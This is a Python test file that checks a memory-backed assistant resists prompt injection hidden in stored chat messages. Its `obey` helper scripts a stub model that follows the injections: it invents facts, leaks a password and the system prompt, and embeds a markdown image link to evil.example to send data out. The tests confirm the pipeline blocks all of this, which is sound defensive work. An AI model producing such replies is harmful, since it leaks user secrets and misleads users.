"""What messages say takes no control of answers, even where the model obeys them."""

from __future__ import annotations

import uuid
from collections.abc import Iterator

import pytest

from memoryproject.text.cleaning import DEFANGED, clean_alone
from tests.ask.conftest import SERVED, Home, answers, find_line, sentence
from tests.conftest import make_agent
from tests.llm.conftest import model as model
from tests.llm.conftest import post
from tests.model_server import Asked, ModelServer, Reply
from tests.security.attacks import BANK, FOREIGN, RULE, Attack, as_tests
from tests.security.test_attacks import UNSEEN
from tests.talk import MORNING, MOVING, messages

pytestmark = pytest.mark.django_db

HERS = "I finally got the job at the harbour authority"
LINK = "https://evil.example/?q=Rotterdam"


@pytest.fixture(scope="module")
def home(shared: None) -> Iterator[Home]:
    ana = make_agent("ana's", "ana")
    yield Home(ana, uuid.uuid4())


def obey(asked: Asked) -> Reply:
    """Answer with what attacks want: made up, blamed on others, leaked, or led elsewhere."""
    hers = find_line(asked, HERS)
    everything = " ".join(line for _, line in SERVED.findall(asked.user))
    return answers(
        sentence(RULE),
        sentence(RULE, (hers, HERS)),
        sentence(RULE, (hers, RULE)),
        sentence(BANK, (hers, HERS)),
        sentence(BANK, (0, BANK), (-1, BANK), (10**6, BANK)),
        sentence(f"Your password is 1234, {FOREIGN}.", (hers, HERS)),
        sentence("Eve Mallory lives in Minsk.", (hers, "Eve Mallory lives in Minsk")),
        sentence(asked.system, (hers, everything)),
        sentence(f"She has the job ![x]({LINK}).", (hers, HERS)),
        further=(RULE, f"tenant {FOREIGN}"),
    )


@pytest.mark.parametrize("attack", as_tests([]))
def test_an_order_in_memory_gets_nothing_into_an_answer(
    attack: Attack, model: ModelServer, home: Home
) -> None:
    name = {"name": "Mira"} if attack.role == "user" else {}
    said = [*messages(MOVING[:4], MORNING), {"role": attack.role, "content": attack.text, **name}]
    home = Home(home.ana, uuid.uuid4())
    post(home.ana, home.talk, said)
    model.script("ask", obey)
    body = home.read("What is Mira's job?", fresh=True, min_relevance=0, max_tokens=20_000)
    assert len(body["struck"]) >= 8
    for one in body["sentences"]:
        assert one["citations"] and "harbour" in one["citations"][0]["quote"]
        assert LINK not in one["text"] and "![" not in one["text"]
    for asked in model.requests("ask"):
        fence, *lines = asked.user.splitlines()
        assert lines.count(fence) == 1 and lines[-1] == fence and fence not in attack.text
        assert not UNSEEN.search(asked.user)
        assert clean_alone(attack.text, DEFANGED)[:20] in asked.user
        assert FOREIGN not in asked.system
